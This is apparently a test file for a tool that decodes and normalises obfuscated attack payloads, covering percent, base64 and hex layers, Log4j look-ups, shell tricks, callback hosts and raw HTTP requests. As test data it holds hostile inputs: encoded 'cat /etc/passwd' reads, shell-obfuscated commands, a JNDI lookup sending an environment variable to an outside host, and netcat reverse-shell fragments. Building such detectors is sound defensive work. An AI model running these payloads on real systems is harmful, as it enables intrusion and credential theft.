// biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups are spelt like that.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { callbackNear, callbackOf, canonicalHost } from './callback-host.ts';
import { decodeBackslash, decodeEntities, decodePercent, decodePlus, foldBlanks, lenientUtf8 } from './decode-text.ts';
import { base64Bytes, embeddedTexts } from './embedded-text.ts';
import { resolveLookups } from './lookups.ts';
import { meantTexts } from './normalise.ts';
import { requestIn } from './raw-request.ts';
import { cleanShell, substituteVariables } from './shell-syntax.ts';

describe('layers of transport', () => {
  it('percent, also the forms that servers of old accepted', () => {
    expect(decodePercent('a%20b%u0027%C3%A6%c0%af%zz%')).toBe("a b'æ/%zz%");
  });

  it('escapes of shells, logs and JSON', () => {
    expect(decodeBackslash(String.raw`\x41\u0042\u{43}\"\/ C:\users`)).toBe('ABC"/ C:\\users');
  });

  it('character references', () => expect(decodeEntities('&#47;&#x2f;&lt;&nosuch;&#9999999;')).toBe('//<&nosuch;&#9999999;'));

  it('plus, only where no other space is', () => {
    expect(decodePlus('a+b')).toBe('a b');
    expect(decodePlus('a+b c')).toBe('a+b c');
  });

  it('blanks, without losing lines', () => expect(foldBlanks('a \t  b\n\nc\0')).toBe('a b\n\nc'));

  it('percent undoes what encodeURIComponent does', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme' }),
        (text) => fc.pre(!text.includes('%')) ?? decodePercent(encodeURIComponent(text)) === text,
      ),
    );
  });

  it('lenient UTF-8 is UTF-8 for what is UTF-8', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme' }), (text) => lenientUtf8([...new TextEncoder().encode(text)]) === text));
  });
});

describe('hidden texts', () => {
  it('base64 decodes what btoa encodes', () => {
    fc.assert(
      fc.property(fc.uint8Array(), (bytes) => {
        expect(base64Bytes(btoa(String.fromCharCode(...bytes)))).toEqual([...bytes]);
      }),
    );
  });

  it('are found in base64, base64url, hexadecimal and UTF-16', () => {
    const texts = (text: string): string[] => embeddedTexts(text).map((found) => found.text);
    expect(texts(`x ${btoa('cat /etc/passwd')} y`)).toEqual(['cat /etc/passwd']);
    expect(texts(Buffer.from('id;uname ?>?>?').toString('base64url'))).toEqual(['id;uname ?>?>?']);
    expect(texts(Buffer.from('cat /etc/passwd').toString('hex'))).toEqual(['cat /etc/passwd']);
    expect(texts(Buffer.from('whoami /all', 'utf16le').toString('base64'))).toEqual(['whoami /all']);
    expect(texts('/Basic/Command/Base64/cGluZyAtYyAxMCAxLjEuMS4x')).toEqual(['ping -c 10 1.1.1.1']);
    expect(texts('ABCDEFGHIJKLMNOPQRSTUVWX 0123456789abcdef0123')).toEqual([]);
  });

  it('are followed three levels deep, and no deeper', () => {
    const hide = (text: string, times: number): string => (times === 0 ? text : hide(btoa(`echo ${text}`), times - 1));
    const reads = (times: number): boolean =>
      meantTexts(hide('cat /etc/passwd', times)).some(({ text }) => text.includes('cat /etc/passwd'));
    expect([1, 2, 3].map(reads)).toEqual([true, true, false]);
  });
});

describe('look-ups of Log4j', () => {
  it.each([
    ['${lower:JNDI}', 'jndi'],
    ['${::-j}${env:NO:-n}di', 'jndi'],
    ['${${lower:j}${upper:n}${::-di}:x}', '${jNdi:x}'],
    ["${date:'j'}ndi", 'jndi'],
    ['${jndi:ldap://x.example/${env:KEY}}', '${jndi:ldap://x.example/${env:KEY}}'],
    ['${a', '${a'],
    ['a}b', 'a}b'],
  ])('%s is %s', (text, meant) => expect(resolveLookups(text)).toBe(meant));
});

describe('syntax of shells', () => {
  it.each([
    ['cat${IFS}/etc/passwd', 'cat /etc/passwd'],
    ['cat$IFS$9/etc/passwd', 'cat /etc/passwd'],
    ['{cat,/etc/passwd}', 'cat /etc/passwd'],
    ["w'h'o'am'i", 'whoami'],
    ['wh\\oa\\mi', 'whoami'],
    ['who$@ami', 'whoami'],
    ["'who'.'ami'", "'whoami'"],
    ['cat ${HOME:0:1}etc', 'cat /etc'],
    ['\\057bin', '/bin'],
  ])('%s is %s', (text, meant) => expect(cleanShell(text)).toBe(meant));

  it('variables that the text sets, in the ways of several languages', () => {
    const set = 'export RHOST="10.0.0.1";RPORT=42;';
    expect(substituteVariables(`${set}nc $RHOST \${RPORT}`)).toContain('nc 10.0.0.1 42');
    expect(substituteVariables(`${set}connect((os.getenv("RHOST"),int(os.environ["RPORT"])))`)).toContain('connect((10.0.0.1,int(42)))');
    expect(substituteVariables('$i="10.0.0.1";inet_aton($i)')).toContain('inet_aton(10.0.0.1)');
    expect(substituteVariables('nc $OTHER 1')).toBe('nc $OTHER 1');
  });

  it('grows no text without bound', () => {
    expect(substituteVariables(`a=${'x'.repeat(200)};${'$a'.repeat(4000)}`).length).toBeLessThan(40_000);
  });
});

describe('ends that payloads name', () => {
  it.each([
    ['10.0.0.1', '10.0.0.1'],
    ['167772161', '10.0.0.1'],
    ['0x0a000001', '10.0.0.1'],
    ['012.0.0.1', '10.0.0.1'],
    ['10.1', '10.0.0.1'],
    ['[2001:DB8::0:1]', '2001:db8::1'],
    ['::ffff:10.0.0.1', '10.0.0.1'],
    ['Evil.Example.', 'evil.example'],
    ['256.1.1.1', undefined],
    ['4242', undefined],
    ['LHOST', undefined],
    ['a..b', undefined],
    ['', undefined],
  ])('%s is %s', (text, host) => expect(canonicalHost(text)).toBe(host));

  it('have a port in range or none, and are not the machine itself', () => {
    expect(callbackOf('shell', '10.0.0.1', '99999')).toEqual({ kind: 'shell', host: '10.0.0.1' });
    expect(callbackOf('shell', 'localhost', '80')).toBeUndefined();
    expect(callbackNear('shell', 'String host="10.0.0.1";int port=8044;')).toEqual({ kind: 'shell', host: '10.0.0.1', port: 8044 });
    expect(callbackNear('shell', 'nothing here')).toBeUndefined();
  });
});

describe('requestIn', () => {
  it('reads a request from the first bytes of a connection', () => {
    const head = String.raw`GET /a?b=1 HTTP/1.1\x0d\x0aHost: web.example\x0d\x0aUser-Agent: Nikto/2.5\x0d\x0a\x0d\x0abody`;
    expect(requestIn(head)).toMatchObject({
      method: 'GET',
      uri: '/a?b=1',
      host: 'web.example',
      user_agent: 'Nikto/2.5',
      post_body: 'body',
    });
  });

  it('is not fooled by other protocols', () => {
    for (const head of ['', 'EHLO mail.example\\x0d\\x0a', 'GET key\\x0d\\x0a', 'SSH-2.0-x', 'HTTP/1.1 200 OK'])
      expect(requestIn(head)).toBeUndefined();
  });
});
